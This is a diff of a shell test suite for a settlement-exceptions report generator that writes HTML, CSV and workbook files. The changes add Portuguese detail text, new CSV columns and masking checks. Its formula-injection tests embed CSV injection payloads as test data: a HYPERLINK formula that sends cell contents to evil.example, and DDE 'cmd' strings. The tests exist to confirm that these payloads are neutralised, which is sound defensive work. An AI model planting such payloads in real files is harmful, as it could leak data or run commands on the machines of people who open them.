@@ -15,6 +15,7 @@ rdir=$T_TMP/spool/reports
 
 t_run out "$SETTLE" report --date $D
 t_eq "report exits 0" 0 "$out_rc"
+t_contains "report prints the workbook path" "$rdir/exceptions-20261128.xlsx" "$out"
 t_contains "report prints the CSV path" "$rdir/exceptions-20261128.csv" "$out"
 t_contains "report prints the HTML path" "$rdir/exceptions-20261128.html" "$out"
 csv=$rdir/exceptions-20261128.csv
@@ -46,7 +47,7 @@ found=$(grep -o '<tr id="reason-[A-Z_]*"><td>[A-Z_]*</td><td>[^<]*</td><td class
         sed -E 's/.*reason-([A-Z_]*)".*<td class="n">([0-9]*)<\/td><td class="n">([0-9.,]*)$/\1=\2\/\3/' | sort | paste -sd' ')
 t_eq "totals by reason equal SQL aggregates" "$expect" "$found"
 t_contains "grand total" "<tr id=\"reason-total\"><th colspan=\"2\">Total</th><td class=\"n\">$(t_sql "SELECT count(*) $OPEN")</td><td class=\"n\">$(t_sql "SELECT $(brl 'sum(coalesce(e.paid_cents, s.amount_paid_cents))') $OPEN")</td>" "$(cat "$html")"
-t_eq "one table row per open exception" "$(t_sql "SELECT count(*) $OPEN")" "$(grep -c '^<tr><td class="n">[0-9]*</td><td>[A-Z_]*<br>' "$html")"
+t_eq "one table row per open exception" "$(t_sql "SELECT count(*) $OPEN")" "$(grep -c '^<tr id="x[0-9]*" style="--a:[0-9]*;--g:[0-9]*">' "$html")"
 t_not_contains "an exception resolved that day is not listed" "PIX_REFUND" "$(sed -n '/id="open"/,$p' "$html")"
 t_not_contains "an exception opened the next day is not listed" "BANK_REJECTED" "$(cat "$html")"
 
@@ -59,9 +60,14 @@ t_eq "the bar chart is well-formed SVG" "" "$(xmllint --noout - <<<"$svg" 2>&1)"
 t_eq "one bar per reason with open exceptions" "$(t_sql "SELECT count(DISTINCT reason) $OPEN")" "$(grep -o '<rect ' <<<"$svg" | wc -l)"
 t_contains "file names are escaped" "ITAU&lt;28&gt;&amp;.RET:30" "$(cat "$html")"
 t_not_contains "no raw markup from the data" "ITAU<28>" "$(cat "$html")"
-t_contains "details are escaped" "no payment for nosso número &lt;29&gt;" "$(cat "$html")"
+t_contains "detail in Portuguese with amounts in R\$" "Pago R\$ 1.000,00, esperado R\$ 3.457,59: faltam R\$ 2.457,59." "$(cat "$html")"
+t_contains "candidates in Portuguese" "Pagamentos candidatos: 30, 31." "$(cat "$html")"
+t_not_contains "no English detail reaches finance" "no payment for" "$(cat "$html")"
+t_not_contains "no raw cents in the detail" "candidates" "$(cat "$html")"
 t_contains "suggested action per reason" "Devolver o excedente ao cliente" "$(cat "$html")"
-t_contains "age in days" '<td class="k">20/11/2026</td><td class="n">8</td>' "$(cat "$html")"
+t_contains "age in days and its bucket" '<td class="n" data-l="Idade (dias)">8<br><span class="s">8 a 30 dias</span>' "$(cat "$html")"
+t_contains "bank code and name" '<span class="s">banco</span> 341 Itaú' "$(cat "$html")"
+t_contains "end-to-end id for a Pix refund" '<span class="s">E2E</span> E0000000020261128120000000000026' "$(cat "$html")"
 
 # --- masking
 t_contains "CPF masked in HTML" "***.456.789-**" "$(cat "$html")"
@@ -75,11 +81,14 @@ t_eq "CSV starts with a UTF-8 BOM" "efbbbf" "$(head -c 3 "$csv" | od -An -tx1 | 
 rows=$(tail -c +4 "$csv" | "$CSVDUMP" ';')
 t_eq "CSV parses with ';' (libcsv)" 0 "$?"
 t_eq "CSV has one row per open exception" "$(t_sql "SELECT count(*) $OPEN")" "$(($(wc -l <<<"$rows") - 1))"
-t_eq "CSV header" "id	motivo	descricao	aberta_em	idade_dias	cliente	documento	pedido	pagamento	valor_esperado	valor_pago	banco	arquivo	linha	acao_sugerida	detalhe" "$(head -n 1 <<<"$rows")"
+t_eq "CSV header: the workbook's columns, acao nota pagamento_id last" "id	motivo	descricao	pagamento	pedido	cliente	documento	metodo	banco	banco_nome	nosso_numero	txid	end_to_end_id	vencimento	data_pagamento	data_credito	valor_esperado	valor_pago	diferenca	tarifa	valor_creditado	arquivo	linha	aberta_em	idade_dias	faixa_idade	acao_sugerida	detalhe	acao	nota	pagamento_id" "$(head -n 1 <<<"$rows")"
 t_eq "CSV paid amounts sum to the SQL total" "$(t_sql "SELECT sum(coalesce(e.paid_cents, s.amount_paid_cents)) $OPEN")" \
-  "$(tail -n +2 <<<"$rows" | awk -F'\t' '{ v = $11; sub(",", "", v); s += v } END { print s }')"
-t_eq "CSV underpaid row in pt_BR" "3;UNDERPAID;20/11/2026;8;***.456.789-**;3457,59;1000,00;ITAU<28>&.RET;30" \
-  "$(awk -F'\t' '$1 == 3 { print $1 ";" $2 ";" $4 ";" $5 ";" $7 ";" $10 ";" $11 ";" $13 ";" $14 }' <<<"$rows")"
+  "$(tail -n +2 <<<"$rows" | awk -F'\t' '{ v = $18; sub(",", "", v); s += v } END { print s }')"
+t_eq "CSV underpaid row in pt_BR" "3;UNDERPAID;20/11/2026;8;***.456.789-**;3457,59;1000,00;-2457,59;ITAU<28>&.RET;30;8 a 30 dias" \
+  "$(awk -F'\t' '$1 == 3 { print $1 ";" $2 ";" $24 ";" $25 ";" $7 ";" $17 ";" $18 ";" $19 ";" $22 ";" $23 ";" $26 }' <<<"$rows")"
+t_eq "CSV pt_BR: codes of digits as text constants (zeros kept in a spreadsheet)" '="341";="00000000000000027";ORD-1027' \
+  "$(awk -F'\t' '$1 == 2 { print $9 ";" $11 ";" $5 }' <<<"$rows")"
+t_eq "CSV: acao, nota, pagamento_id empty" ";;" "$(awk -F'\t' '$1 == 4 { print $29 ";" $30 ";" $31 }' <<<"$rows")"
 
 # --- --unmask
 t_run out "$SETTLE" report --date $D --unmask --output "$T_TMP/unmasked"
@@ -93,8 +102,8 @@ t_run out "$SETTLE" report --date $D --locale C --output "$T_TMP/c"
 t_eq "report --locale C exits 0" 0 "$out_rc"
 ccsv=$T_TMP/c/exceptions-20261128.csv
 t_eq "C CSV has no BOM" '"id"' "$(head -c 4 "$ccsv")"
-crow=$("$CSVDUMP" ',' <"$ccsv" | awk -F'\t' '$1 == 3 { print $4 ";" $10 ";" $11 }')
-t_eq "C CSV uses ',' separators, dots and ISO dates" "2026-11-20;3457.59;1000.00" "$crow"
+crow=$("$CSVDUMP" ',' <"$ccsv" | awk -F'\t' '$1 == 3 { print $24 ";" $17 ";" $18 ";" $9 }')
+t_eq "C CSV uses ',' separators, dots, ISO dates, codes as they are" "2026-11-20;3457.59;1000.00;260" "$crow"
 t_contains "C HTML groups with commas" "$(t_sql "SELECT to_char(sum(s.amount_paid_cents)::bigint / 100, 'FM999,999,990') || '.' || lpad((sum(s.amount_paid_cents)::bigint % 100)::text, 2, '0') FROM settlements s JOIN return_files f ON f.id = s.file_id WHERE s.paid AND f.received_at $DAY")" \
   "$(cat "$T_TMP/c/exceptions-20261128.html")"
 
@@ -116,11 +125,11 @@ fnames=$(awk -F'\t' 'NR > 1 { print $6 }' <<<"$frows")
 for n in "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")" "'+cmd|' /C calc'!A0" "'-2+3+cmd|' /C calc'!A0" "'@SUM(1+1)*cmd|' /C calc'!A0"; do
   t_eq "formula name written as text: $n" "1" "$(grep -cxF -- "$n" <<<"$fnames")"
 done
-t_eq "no cell of the CSV starts with = + - @ but our numbers" "" \
-  "$(awk -F'\t' 'NR > 1 { for (i = 1; i <= NF; i++) if ($i ~ /^[=+@-]/ && $i !~ /^-[0-9]+,[0-9][0-9]$/) print i ": " $i }' <<<"$frows")"
-t_eq "a negative amount stays a number" "-12,34" "$(awk -F'\t' -v id="$neg" '$1 == id { print $11 }' <<<"$frows")"
+t_eq "no cell of the CSV starts with = + - @ but our numbers and our =\"digits\" codes" "" \
+  "$(awk -F'\t' 'NR > 1 { for (i = 1; i <= NF; i++) if ($i ~ /^[=+@-]/ && $i !~ /^-[0-9]+,[0-9][0-9]$/ && $i !~ /^="[0-9]+"$/) print i ": " $i }' <<<"$frows")"
+t_eq "a negative amount stays a number" "-12,34" "$(awk -F'\t' -v id="$neg" '$1 == id { print $18 }' <<<"$frows")"
 ccsv2=$("$SETTLE" report --date $D --locale C --output "$T_TMP/formula-c" >/dev/null 2>&1 && "$CSVDUMP" ',' <"$T_TMP/formula-c/exceptions-20261128.csv")
-t_eq "C locale: a negative amount stays a number" "-12.34" "$(awk -F'\t' -v id="$neg" '$1 == id { print $11 }' <<<"$ccsv2")"
+t_eq "C locale: a negative amount stays a number" "-12.34" "$(awk -F'\t' -v id="$neg" '$1 == id { print $18 }' <<<"$ccsv2")"
 t_contains "C locale: formula names start with an apostrophe" "'=HYPERLINK(" "$ccsv2"
 t_contains "the HTML shows the name as it is (escaped, no apostrophe)" "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" \
   "$(cat "$T_TMP/formula/exceptions-20261128.html")"
